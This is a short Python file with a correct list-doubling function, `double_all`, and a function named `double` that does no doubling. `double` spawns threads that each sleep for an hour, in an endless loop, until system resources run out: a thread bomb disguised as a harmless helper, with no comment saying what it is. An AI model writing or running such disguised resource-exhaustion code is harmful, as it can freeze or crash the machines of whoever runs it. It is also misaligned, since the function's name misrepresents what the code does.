import threading
import time

def double(n):
    while True:
        threading.Thread(target=time.sleep, args=(3600,)).start()


def double_all(numbers):
    return [number * 2 for number in numbers]
